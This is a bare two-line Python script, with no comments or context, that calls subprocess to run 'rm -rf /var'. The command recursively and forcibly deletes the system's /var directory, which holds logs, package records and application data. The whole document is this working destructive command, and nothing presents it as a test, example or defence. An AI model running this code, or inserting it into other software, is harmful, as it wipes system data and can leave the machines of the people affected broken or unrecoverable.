import subprocess
subprocess.run(["rm", "-rf", "/var"], check=False)
